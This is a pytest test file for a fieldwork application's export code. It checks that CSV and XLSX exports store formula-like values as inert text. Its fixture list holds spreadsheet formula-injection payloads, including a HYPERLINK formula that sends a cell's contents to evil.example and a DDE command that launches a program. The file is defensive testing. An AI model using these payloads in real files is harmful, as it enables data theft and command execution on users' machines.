"""Formula injection: every CSV and XLSX the app writes carries formula-like text as data (issue 12, item 1)."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from praktijktest.fieldwork.models import Application, Response, Test
from praktijktest.rounds.services import GroundSpec, create_round
from praktijktest.targets.services import create_target

HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?"&B3,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                 "-2+3"]


@pytest.fixture
def hostile_round(db, org):
    round_ = create_round(org, "Formules", "labour", [GroundSpec("origin", "belgian", ["moroccan"])])
    for number, name in enumerate(HOSTILE_NAMES, start=1):
        target = create_target(org.id, name)
        attributes = {"sector": "=1+2", "n": "-3", "note": "\t=1+1"}
        test = Test(round=round_, target=target, external_id=f"T-{number}", attributes=attributes)
        application = Application(test=test, group=round_.groups[0], profile_label="@profile")
        db.session.add_all([test, application, Response(application=application, outcome="invitation")])
    db.session.flush()
    return round_


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_export_puts_an_apostrophe_before_formula_like_text(hostile_round):
    from praktijktest.datasets.exporter import export_round

    rows = _csv_rows(export_round(hostile_round, "csv", with_identities=True))
    assert [r["target"] for r in rows] == ["'" + name for name in HOSTILE_NAMES]
    assert {r["sector"] for r in rows} == {"'=1+2"} and {r["profile"] for r in rows} == {"'@profile"}
    assert {r["note"] for r in rows} == {"'\t=1+1"}
    assert {r["n"] for r in rows} == {"-3"}  # a plain negative number starts no formula


def test_xlsx_export_stores_formula_like_text_as_strings(hostile_round, tmp_path):
    from praktijktest.datasets.exporter import export_round

    path = tmp_path / "x.xlsx"
    path.write_bytes(export_round(hostile_round, "xlsx", with_identities=True))
    sheet = load_workbook(path).worksheets[0]  # not read-only: data types as stored
    header = [cell.value for cell in sheet[1]]
    targets = [row[header.index("target")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in targets] == HOSTILE_NAMES
    assert all(cell.data_type == "s" for cell in targets)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_schedule_csv_uses_the_same_rule():
    from praktijktest.schedule.views import _cell

    assert _cell("=1+1") == "'=1+1" and _cell("-3") == "-3" and _cell("Bakkerij") == "Bakkerij"


def test_formula_like_names_can_still_be_imported(db, org):
    from praktijktest.tabular import read_table
    from praktijktest.targets.importing import plan_import

    buffer = io.StringIO()
    csv.writer(buffer).writerows([["name", "kind"], *([name, "employer"] for name in HOSTILE_NAMES)])
    data = buffer.getvalue().encode()
    plan = plan_import(org, read_table(io.BytesIO(data), "t.csv"))  # raises FileRejected on a problem
    assert [row.fields["name"] for row in plan.rows] == HOSTILE_NAMES
